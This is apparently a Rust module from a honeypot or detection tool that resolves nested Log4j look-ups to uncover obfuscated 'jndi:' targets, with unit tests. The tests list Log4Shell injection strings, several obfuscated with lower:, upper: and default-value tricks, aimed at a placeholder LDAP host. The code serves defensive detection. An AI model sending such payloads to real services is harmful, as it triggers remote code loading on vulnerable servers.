//! Look-ups as Log4j resolves them, nested ones included, until one says `jndi:`.

use super::ascii;
use crate::entropy::Census;
use alloc::{string::String, vec::Vec};
use honeymesh_types::MARK_BYTES_MAX;

/// How deep look-ups nest; what is deeper is taken as it stands.
const NESTED_MAX: usize = 16;
/// The longest text that is resolved in one look-up, in bytes; a longer one is taken as it stands.
const RESOLVED_BYTES_MAX: usize = 1_024;

/// Where the first look-up by JNDI leads, if there is one. Each byte is moved once for each look-up around it: linear.
pub(super) fn jndi(bytes: &[u8], census: &Census) -> Option<String> {
    if !census.has(b'$') || !census.has(b'{') {
        return None;
    }
    // Starts of the open look-ups in `out`.
    let (mut out, mut open): (Vec<u8>, Vec<usize>) = (Vec::new(), Vec::new());
    let (mut rest, mut target) = (bytes, None);
    while let Some((first, behind)) = rest.split_first() {
        let mut taken = 1;
        match first {
            b'$' if behind.first() == Some(&b'{') && open.len() < NESTED_MAX => {
                open.push(out.len());
                taken = 2;
            }
            b'}' if !open.is_empty() => close(&mut out, &mut open, &mut target),
            // Outside of all look-ups nothing need be remembered.
            _ if open.is_empty() => {}
            _ => out.push(*first),
        }
        rest = rest.get(taken..).unwrap_or_default();
    }
    // A look-up that is cut off is one all the same.
    while !open.is_empty() {
        close(&mut out, &mut open, &mut target);
    }
    target
}

fn close(out: &mut Vec<u8>, open: &mut Vec<usize>, target: &mut Option<String>) {
    let Some(start) = open.pop() else { return };
    let inner = &out[start.min(out.len())..];
    if inner.len() <= RESOLVED_BYTES_MAX {
        if target.is_none() && inner.get(..5).is_some_and(|name| name.eq_ignore_ascii_case(b"jndi:")) {
            *target = Some(ascii(&inner[5..], MARK_BYTES_MAX));
        }
        let resolved = resolve(inner);
        out.truncate(start);
        if !open.is_empty() {
            out.extend_from_slice(&resolved);
        }
    }
    if open.is_empty() {
        out.clear();
    }
}

/// `lower:J` and `upper:j` change case, `x:-j` has a default, whatever else is in it; everything else stands for itself.
fn resolve(inner: &[u8]) -> Vec<u8> {
    let after = |name: &[u8]| {
        inner.split_at_checked(name.len()).filter(|(head, _)| head.eq_ignore_ascii_case(name)).map(|(_, text)| text)
    };
    if let Some(text) = after(b"lower:") {
        return text.to_ascii_lowercase();
    }
    if let Some(text) = after(b"upper:") {
        return text.to_ascii_uppercase();
    }
    match inner.windows(2).position(|two| two == b":-") {
        Some(place) => inner[place + 2..].to_vec(),
        None => inner.to_vec(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn jndi(bytes: &[u8]) -> Option<String> {
        super::jndi(bytes, &Census::of(bytes))
    }

    #[test]
    fn nested_look_ups_are_resolved_to_what_they_hide() {
        let cases: [&[u8]; 9] = [
            b"${jndi:ldap://x/a}",
            b"${JnDi:ldap://x/a}",
            b"${${lower:j}ndi:ldap://x/a}",
            b"${${lower:${lower:J}}${upper:n}di:ldap://x/a}",
            b"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
            b"${${env:NOBODY:-j}ndi${env:NOBODY:-:}ldap://x/a}",
            b"${j${k8s:k5:-ND}i:ldap://x/a}",
            b"a}b${x}${jndi:ldap://x/a}",
            b"GET /?x=${jndi:ldap://x/a",
        ];
        for text in cases {
            assert_eq!(jndi(text).as_deref(), Some("ldap://x/a"), "{}", String::from_utf8_lossy(text));
        }
        for text in [&b"${name}"[..], b"jndi:ldap://x", b"`Hello ${user.name}`", b"}}}", b"${", b""] {
            assert_eq!(jndi(text), None, "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn deep_and_long_nesting_ends() {
        let deep = [&b"${".repeat(50_000)[..], &b"}".repeat(50_000)].concat();
        assert_eq!(jndi(&deep), None);
        let long = [&b"${lower:".repeat(10)[..], &b"x".repeat(200_000), &b"}".repeat(10)].concat();
        assert_eq!(jndi(&long), None);
    }
}
